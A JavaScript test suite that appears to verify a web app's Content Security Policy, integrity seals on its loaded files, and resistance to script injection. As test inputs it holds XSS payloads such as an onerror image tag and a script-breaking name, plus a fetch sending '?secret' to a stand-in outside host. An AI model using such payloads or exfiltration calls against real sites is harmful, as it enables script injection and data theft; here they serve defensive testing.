// What protects the page: its policy, the seals on what it loads, and that it talks to nobody else.
import { strict as assert } from "node:assert";
import { createHash } from "node:crypto";
import { appendFile, readFile, readdir } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { DIST, open, setUp, story, whole } from "./house.mjs";
import { hosted } from "./host.mjs";

const page = await readFile(join(DIST, "index.html"), "utf8");
const policy = page.match(/content="(default-src[^"]*)"/)[1];
const seal = async (name) => `sha384-${createHash("sha384").update(await readFile(join(DIST, name))).digest("base64")}`;

test("the policy forbids everything but files of our own, pictures in styles, and wasm", async () => {
  const rules = Object.fromEntries(policy.split("; ").map((rule) => [rule.split(" ")[0], rule.split(" ").slice(1).join(" ")]));
  const own = Object.fromEntries(["style", "font", "connect", "manifest", "worker"].map((kind) => [`${kind}-src`, "'self'"]));
  assert.deepEqual(rules, {
    "default-src": "'none'", "base-uri": "'none'", "form-action": "'none'",
    "script-src": "'self' 'wasm-unsafe-eval'", "img-src": "'self' data:", ...own,
  });
  const hosting = await readFile(new URL("../docs/hosting.md", import.meta.url), "utf8");
  assert.ok(hosting.includes(`${policy}; frame-ancestors 'none'`), "docs/hosting.md has the same");
});

test("style, script and wasm are sealed, by their names too, and nothing stands in the page itself", async () => {
  const sealed = [...page.matchAll(/<(?:link|script)[^>]* (?:href|src)=\.\/(\S+) integrity=([^\s>]+)/g)];
  const files = (await readdir(DIST)).filter((name) => /\.(css|wasm)$|^tabletron.*\.js$/.test(name));
  assert.deepEqual(sealed.map(([, name]) => name).sort(), files.sort());
  for (const [, name, integrity] of sealed) {
    assert.equal(integrity, await seal(name), name);
    assert.ok(name.includes(createHash("sha256").update(await readFile(join(DIST, name))).digest("hex").slice(0, 16)), name);
  }
  const wasm = files.find((name) => name.endsWith(".wasm"));
  const script = await readFile(join(DIST, files.find((name) => name.endsWith(".js"))), "utf8");
  assert.ok(script.includes(await seal(wasm)), "the script checks the wasm");
  assert.doesNotMatch(page, /<script[^>]*>[^<]|<style|style=(?!\.)| on\w+=/);
});

story("what is slipped into the page does not run, and nothing gets out", {}, async (page, { errors }) => {
  await setUp(page, { seed: "3" });
  const outcome = await page.evaluate(async () => {
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add("script", { textContent: "globalThis.slipped = 'script'" });
    add("script", { src: "data:text/javascript,globalThis.slipped = 'data'" });
    add("div", { innerHTML: "<img src=nothing onerror=\"globalThis.slipped = 'handler'\"><b style='position: fixed'></b>" });
    add("base", { href: "https://elsewhere.invalid/" });
    add("iframe", { src: "https://elsewhere.invalid/" });
    // A call of the driver itself may evaluate texts; one of the page may not.
    const evaluated = await new Promise((done) => setTimeout(() => {
      try {
        done(eval("1"));
      } catch (error) {
        done(error.name);
      }
    }, 50));
    const sent = await fetch("https://elsewhere.invalid/?secret").then(() => "sent", () => "refused");
    const { position } = getComputedStyle(document.body.querySelector("b[style]"));
    return { evaluated, sent, position, slipped: globalThis.slipped, base: document.baseURI === location.href };
  });
  assert.deepEqual(outcome, { evaluated: "EvalError", sent: "refused", position: "static", slipped: undefined, base: true });
  const breaches = () => errors.map((error) => error.match(/^console: policy: (\S+)/)?.[1]);
  for (const rule of ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "base-uri", "frame-src", "script-src"]) {
    for (let waits = 0; waits < 50 && !breaches().includes(rule); waits += 1) await page.waitForTimeout(100);
    assert.ok(breaches().includes(rule), `${rule} is watched: ${errors.join("\n")}`);
  }
  errors.length = 0;
});

story("a name is text, whatever it says", {}, async (page) => {
  const name = "<img src=x onerror=alert(1)><b>&amp;";
  await setUp(page, { names: [name, "\"'><script>1</script>"], seed: "3" });
  const names = await page.locator(".rail .pb .who b").allTextContents();
  assert.ok(names.includes(name.slice(0, names.find((one) => one.startsWith("<img")).length)), names.join(" | "));
  assert.equal(await page.locator(".table img[src='x'], .table script").count(), 0);
  await open(page, "/");
  await whole(page);
  assert.equal(await page.locator(".saves img[src='x'], .saves script").count(), 0);
});

for (const [what, pattern] of [["script", /^tabletron.*\.js$/], ["wasm", /\.wasm$/]]) {
  hosted(`a ${what} that is not what was built is not started`, { worker: false }, async (page, site, { errors }) => {
    const changed = (await readdir(site.folder)).find((name) => pattern.test(name));
    await appendFile(join(site.folder, changed), what === "wasm" ? Buffer.from([0, 2, 1, 97]) : "\n;");
    const refused = page.waitForEvent("console", { predicate: (message) => /integrity/.test(message.text()) });
    await page.goto(site.address);
    await refused;
    assert.equal(await page.locator("#main").count(), 0);
    assert.ok(errors.splice(0).length > 0);
  });
}
